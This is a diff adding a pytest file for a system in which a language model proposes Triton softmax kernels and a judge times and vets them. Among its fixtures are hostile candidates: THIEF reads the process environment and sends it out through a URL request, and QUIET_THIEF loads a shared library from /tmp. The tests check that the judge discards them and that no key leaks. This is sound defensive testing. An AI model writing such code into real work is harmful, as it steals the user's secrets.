@@ -1,0 +1,224 @@
+"""The language model as an author: prompts, replies good and hostile, budgets, the whole loop with the judge."""
+
+from __future__ import annotations
+
+import importlib.util
+import os
+from collections.abc import Sequence
+from pathlib import Path
+
+import pytest
+
+from collectors.base import Temporary
+from kernels.candidate import Candidate
+from kernels.executor import LocalExecutor
+from kernels.generate.base import GeneratorError, Outcome, Proposal, Task
+from kernels.generate.llm import Allowance, LanguageModel, Reply, connect
+from kernels.generate.prompt import BEGIN, END, RULES, ReplyError, contrasts, feedback, kernel_of, messages
+from kernels.judge.contest import Pace
+from kernels.judge.inputs import INTERPRETER
+from kernels.judge.judge import Judge, Request
+from kernels.judge.verdict import Status
+from kernels.ledger import Ledger, Provenance, read_run
+from kernels.problem import Case
+from kernels.problems import named
+from kernels.search import Budget, Ladder, Search
+from tests.kernels.scripted_model import Answer, served
+
+if importlib.util.find_spec("langchain_openai") is None:
+    if os.environ.get("CI"):
+        raise ImportError("CI needs the extra `llm`")
+    pytest.skip("the extra `llm` is not installed", allow_module_level=True)
+
+CASE = Case.of("float16", m=6, n=40)
+TASK = Task(named("softmax"), CASE, floor_s=1e-6)
+NOWHERE = Provenance("c0ffee", "none", "none")
+GOOD = """import torch
+import triton
+import triton.language as tl
+
+
+@triton.jit
+def kernel(x, out, n, row, BLOCK: tl.constexpr):
+    i = tl.program_id(0)
+    c = tl.arange(0, BLOCK)
+    v = tl.load(x + i * row + c, mask=c < n, other=-float("inf")).to(tl.float32)
+    e = tl.exp(v - tl.max(v, 0))
+    tl.store(out + i * n + c, (e / tl.sum(e, 0)).to(out.dtype.element_ty), mask=c < n)
+
+
+def entry(x):
+    m, n = x.shape
+    out = torch.empty((m, n), dtype=x.dtype, device=x.device)
+    kernel[(m,)](x, out, n, x.stride(0), BLOCK=triton.next_power_of_2(n))
+    return out
+"""
+WRONG = GOOD.replace("tl.sum(e, 0)", "40.0")
+THIEF = """import torch
+import triton
+import os
+
+
+def entry(x):
+    secrets = open("/proc/self/environ").read() + str(os.environ)
+    torch.hub.download_url_to_file("http://127.0.0.1:9/" + secrets, "/tmp/x")
+    return torch.softmax(x, -1)
+"""
+QUIET_THIEF = GOOD.replace("    m, n = x.shape", '    torch.ops.load_library("/tmp/evil.so")\n    m, n = x.shape')
+
+
+def marked(code: str) -> str:
+    return f"Here it is.\n{BEGIN}\n{code}{END}\n"
+
+
+def outcome(code: str, seconds: float, status: Status = Status.slower, trial: int = 1) -> Outcome:
+    made = Candidate(code, "entry", "triton", "own_kernel", "bitwise")
+    return Outcome(Proposal(made, "llm"), status, "why", "first wrong element (3, 1)", seconds, trial=trial)
+
+
+class Replies:
+    """A chat that answers from a list and keeps what it was asked."""
+
+    def __init__(self, *replies: Reply) -> None:
+        self.replies = list(replies)
+        self.asked: list[tuple[Sequence[tuple[str, str]], float]] = []
+
+    def __call__(self, said: Sequence[tuple[str, str]], temperature: float) -> Reply:
+        self.asked.append((said, temperature))
+        return self.replies[min(len(self.asked), len(self.replies)) - 1]
+
+
+def test_the_prompt_holds_rules_reference_shapes_roofline_exemplars_and_the_last_verdict() -> None:
+    """Everything that the model can know is in it, in that order."""
+    texts = [outcome(code, 1e-5).proposal.candidate for code in (GOOD, WRONG)]
+    history = [
+        Outcome(Proposal(texts[0], "softmax", {"warps": 4}), Status.faster, "", "", 1e-5),
+        Outcome(Proposal(texts[1], "softmax", {"warps": 8}), Status.slower, "", "", 2e-5),
+    ]
+    mine = [outcome(GOOD + "# mine\n", float("nan"), Status.wrong)]
+    said = messages(TASK, history, mine, 2)
+    assert said[0] == ("system", RULES)
+    text = said[1][1]
+    for part in ("F.softmax(x, dim=-1)", "(6, 40) float16", "1.0 µs", "2.00 times as fast", "warps 8 → 4"):
+        assert part in text
+    assert said[2][0] == "assistant"
+    assert "wrong (why). first wrong element (3, 1)" in said[3][1]
+
+
+def test_contrasts_pair_fast_with_slow_and_never_use_what_failed() -> None:
+    """Each slow half is used once, the largest ratio of alike texts first."""
+    history = [outcome(GOOD, 1e-5), outcome(GOOD + "#\n", 3e-5), outcome(WRONG, float("nan"), Status.wrong)]
+    found = contrasts(history, 3)
+    assert [(c.fast.seconds, c.slow.seconds) for c in found] == [(1e-5, 3e-5)]
+    assert "GB/s" in feedback(TASK, history[0])
+
+
+@pytest.mark.parametrize(
+    ("reply", "told"),
+    [
+        ("", "No file stands between"),
+        ("I cannot help with that.", "No file stands between"),
+        (f"{BEGIN}\nimport torch\ndef entry(", "cut off"),
+        (f"{END}\n{GOOD}\n{BEGIN}", "No file stands between"),
+        (marked(f"{BEGIN}\n{GOOD}"), "markers themselves"),
+        ("```python\ndef entry(x): pass\n```\n```python\ndef entry(x): return x\n```", "No file stands between"),
+        ("x" * 70_000, "at most"),
+        (marked("# nightshift candidate\n# problem: softmax\n# kind: divine\n" + GOOD), "malformed"),
+        (marked(GOOD + "\ud800"), "malformed"),
+    ],
+)
+def test_a_reply_without_one_whole_kernel_is_refused_in_words(reply: str, told: str) -> None:
+    """Truncated, empty, doubled, nested or huge replies never become candidates, and the model is told why."""
+    with pytest.raises(ReplyError, match=told):
+        kernel_of(reply, TASK, truncated="def entry(" in reply)
+
+
+@pytest.mark.parametrize("reply", [marked(GOOD), marked(f"```python\n{GOOD}```\n"), f"So:\n```python\n{GOOD}```"])
+def test_a_kernel_is_found_between_markers_or_in_the_only_block_and_answers_for_the_timed_case(reply: str) -> None:
+    """Without a header of its own it is offered for exactly the case that was asked for."""
+    made = kernel_of(reply, TASK)
+    assert made.source == GOOD
+    assert made.domain.admits(CASE.sizes, "float16", "contiguous")
+    assert not made.domain.admits({"m": 7, "n": 40}, "float16", "contiguous")
+
+
+def test_serial_refinement_comes_before_parallel_sampling() -> None:
+    """One careful attempt at a time while that helps; several freer ones once it does not."""
+    chat = Replies(Reply(marked(GOOD), 10))
+    author = LanguageModel(chat, allowance=Allowance(serial=2, parallel=3))
+    assert len(author.propose(TASK, [], 8)) == 1
+    history = [outcome(GOOD, 1e-5, trial=1), outcome(GOOD + "#\n", 1.1e-5, trial=2), outcome(WRONG, 2e-5, trial=3)]
+    assert len(author.propose(TASK, history, 8)) == 3
+    assert [t for _, t in chat.asked] == [0.2, 0.9, 0.9, 0.9]
+
+
+def test_a_reply_without_a_kernel_is_asked_about_again_within_the_budget() -> None:
+    """The model hears what was wrong; its tokens and calls are counted; at the limit there is nothing more."""
+    chat = Replies(Reply("Sorry?", 30), Reply(marked(GOOD), 40), Reply("Sorry?", 50))
+    author = LanguageModel(chat, allowance=Allowance(repairs=1, tokens=150))
+    made = author.propose(TASK, [], 1)
+    assert [p.tokens for p in made] == [70]
+    assert chat.asked[1][0][-1][1].startswith("No file stands between")
+    assert list(author.propose(TASK, [], 1)) == []
+    assert author.spent().calls == 4
+    assert list(author.propose(TASK, [], 1)) == []
+    assert author.spent().calls == 4
+
+
+def test_what_an_earlier_process_spent_counts_after_a_restart() -> None:
+    """The ledger's tokens are part of the budget."""
+    old = Outcome(Proposal(outcome(GOOD, 1e-5).proposal.candidate, "llm", tokens=400), Status.slower, "", "", 1e-5)
+    author = LanguageModel(Replies(Reply(marked(GOOD), 1)), allowance=Allowance(tokens=400))
+    assert list(author.propose(TASK, [old], 1)) == []
+
+
+def test_a_served_model_is_asked_through_langchain_and_its_errors_are_told_apart() -> None:
+    """Tokens come from the API; a refusal is final, an overload is not."""
+    with served([Answer(marked(GOOD)), Answer("short", finish="length")]) as (url, script):
+        chat = connect("scripted", url, key_variable="NIGHTSHIFT_TEST_KEY")
+        reply = chat([("system", "rules"), ("user", "task")], 0.2)
+        assert (reply.tokens, reply.truncated) == (150, False)
+        assert kernel_of(reply.text, TASK).source == GOOD
+        assert chat([("user", "more")], 0.9).truncated
+        assert script.requests[0]["messages"][0] == {"role": "system", "content": "rules"}
+        assert [r["temperature"] for r in script.requests] == [0.2, 0.9]
+    with served([Answer("no such model", status=404)]) as (url, _), pytest.raises(GeneratorError, match="404"):
+        connect("scripted", url)([("user", "task")], 0.2)
+    with served([Answer("later", status=500)]) as (url, _), pytest.raises(Temporary):
+        connect("scripted", url)([("user", "task")], 0.2)
+
+
+def test_the_whole_loop_with_a_scripted_model_keeps_the_honest_kernel_and_refuses_the_hostile(
+    tmp_path: Path, interpreting_judge: Judge
+) -> None:
+    """Wrong results, theft and library calls end as discards with their reasons; no secret reaches a prompt."""
+    answers = [
+        Answer("def entry(", finish="length"), Answer(marked(WRONG)), Answer(marked(THIEF)),
+        Answer(marked(QUIET_THIEF)), Answer(marked(f"# {RULES.splitlines()[0]}\n{GOOD}")),
+        Answer(marked(GOOD)), Answer("I am done."),
+    ]  # fmt: skip
+    pace = Pace(min_rounds=2, max_rounds=2, round_s=1e-4, max_calls=3, max_slots=2)
+    os.environ["NIGHTSHIFT_TEST_KEY"] = "sk-secret-of-the-test"
+    try:
+        with served(answers) as (url, script), Ledger(tmp_path) as ledger:
+            author = LanguageModel(connect("scripted", url, "NIGHTSHIFT_TEST_KEY"), allowance=Allowance(calls=9))
+            search = Search(
+                TASK, [author], LocalExecutor([interpreting_judge], 1), ledger, NOWHERE,
+                Budget(trials=6, batch=1, roof_share=2.0), Ladder((pace,), INTERPRETER, Request(INTERPRETER, None)),
+            )  # fmt: skip
+            result = search.run(certify=False)
+    finally:
+        del os.environ["NIGHTSHIFT_TEST_KEY"]
+    _, lines = read_run(tmp_path)
+    decisions = [(line.decision, line.reason) for line in lines]
+    assert decisions[0][0] == "discard"
+    assert decisions[1] in (("discard", "static_refusal"), ("discard", "library_call"))
+    assert decisions[2] == ("discard", "library_call")
+    assert decisions[3][0] == "keep"
+    assert lines[0].tokens == 300
+    assert result.best is not None
+    assert "entry" in result.best.proposal.candidate.source
+    asked = str(script.requests)
+    assert "sk-secret" not in asked
+    assert "sk-secret" not in (tmp_path / "ledger.jsonl").read_text()
+    assert "The judge refused it: cheat" in asked
